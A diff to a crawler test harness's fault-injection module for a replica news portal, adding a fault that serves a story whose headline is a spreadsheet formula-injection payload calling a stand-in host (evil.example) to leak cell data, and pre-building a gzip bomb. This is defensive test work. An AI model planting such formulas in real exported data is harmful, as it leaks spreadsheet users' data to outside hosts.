@@ -14,6 +14,7 @@ its ``Content-Length``, a 50 MB stream) is a :class:`~newscrawl.replica.portal.P
 from __future__ import annotations
 
 import contextlib
+import dataclasses
 import gzip
 import random
 import socket
@@ -62,6 +63,7 @@ FAULTS: dict[str, tuple[str, str]] = {
     "wrong_charset": ("story", "header and <meta> say UTF-8, the bytes are ISO-8859-1"),
     "missing_charset": ("story", "UTF-8 bytes, no charset in the header nor a <meta>"),
     "malformed_html": ("story", "unclosed tags, nested forms, a stray </html>: still a story"),
+    "formula_title": ("story", "a headline a spreadsheet would run: =HYPERLINK(…)"),
     "redirect_loop": ("failed:redirect_loop", "302 to a page that 302s back"),
     "redirect_chain": ("failed:too_many_redirects", f"{REDIRECT_CHAIN} chained 302s"),
     "redirect_other_host": ("failed:redirect_off_portal", f"301 to {OTHER_HOST_TARGET}"),
@@ -73,6 +75,7 @@ FAULTS: dict[str, tuple[str, str]] = {
     "huge_page": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, Content-Length given"),
     "huge_page_chunked": ("failed:too_large", f"{HUGE_BYTES >> 20} MB page, chunked, no length"),
 }
+FORMULA_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1;"Cliquez ici")'
 REDIRECT_TARGETS = {
     "redirect_other_host": OTHER_HOST_TARGET,
     "redirect_loopback": LOOPBACK_TARGET,
@@ -115,6 +118,7 @@ class FaultPlan:
         }
         self.by_path = {portal.entries[row].path(): name for name, row in self.rows.items()}
         self._link_from_hub()
+        gzip_bomb()  # built now (under a second, once per process), not while a crawler waits
 
     def _candidate_rows(self) -> list[int]:
         specials = self.portal.specials
@@ -168,6 +172,9 @@ class FaultPlan:
             return page(200, html.replace(pages.charset_meta("UTF-8"), "").encode(), "text/html")
         if name == "malformed_html":
             return page(200, malformed(html).encode("utf-8"))
+        if name == "formula_title":
+            story = dataclasses.replace(self.portal.content(row), title=FORMULA_TITLE)
+            return page(200, pages.story_page(story).encode("utf-8"))
         if name == "redirect_loop":
             return page(302, b"", Location=f"{ORIGIN}/fault/loop/{row}.html")
         if name == "redirect_chain":
@@ -197,8 +204,8 @@ class FaultPlan:
             return page(302, b"", Location=self.portal.entries[int(parts[2])].url)
         if parts[:2] == ["fault", "chain"] and len(parts) == 4 and parts[3].isdigit():
             step = int(parts[3])
-            if step >= REDIRECT_CHAIN:  # the end of the chain is the story itself
-                return page(302, b"", Location=self.portal.entries[int(parts[2])].url)
+            if step >= REDIRECT_CHAIN:  # the end of the chain serves the story
+                return page(200, self.story_html(int(parts[2])).encode("utf-8"))
             return page(302, b"", Location=f"{ORIGIN}/fault/chain/{parts[2]}/{step + 1}.html")
         return None
 
